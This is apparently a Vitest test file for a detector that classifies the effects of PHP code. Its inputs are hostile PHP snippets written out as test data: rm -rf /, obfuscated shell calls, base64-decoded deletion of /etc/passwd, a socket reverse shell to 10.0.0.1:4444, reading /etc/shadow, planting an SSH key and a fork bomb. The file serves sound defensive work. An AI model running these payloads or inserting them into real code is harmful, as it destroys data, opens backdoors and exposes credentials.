import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const php = effectsOf('php');

describe('php producer', () => {
  it('states shell functions, backticks and functions named by strings', () => {
    expect(of(php('system("rm -rf /");'), 'exec')[0]?.code).toBe('rm -rf /');
    expect(of(php('echo `id`;'), 'exec')[0]?.code).toBe('id');
    expect(of(php('$f = "sys" . "tem"; $f("id");'), 'exec')[0]?.code).toBe('id');
    expect(of(php('SHELL_EXEC(str_rot13("vq"));'), 'exec')[0]?.code).toBe('id');
    expect(of(php('<?php passthru(hex2bin("6964")); ?>'), 'exec')[0]?.code).toBe('id');
  });

  it('runs eval of decoded code through the same producer', () => {
    const effects = php('eval(base64_decode("dW5saW5rKCIvZXRjL3Bhc3N3ZCIpOw=="));');
    expect(of(effects, 'exec')[0]).toMatchObject({ language: 'php', origin: 'decoded' });
    expect(of(effects, 'delete')[0]?.path.path).toBe('/etc/passwd');
  });

  it('states sockets wired to a shell, reads and sends', () => {
    const shell = php('$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");');
    expect(of(shell, 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
    expect(of(php('echo file_get_contents("/etc/shadow");'), 'read')[0]?.path.path).toBe('/etc/shadow');
    expect(of(php('file_put_contents("/home/u/.ssh/authorized_keys", "ssh-rsa AAA", FILE_APPEND);'), 'write')[0]?.path.path).toBe('/home/u/.ssh/authorized_keys');
    expect(of(php('while(true){pcntl_fork();}'), 'spawn')[0]).toMatchObject({ unbounded: true });
    expect(php('echo json_encode(["a" => 1]);')).toEqual([]);
  });
});
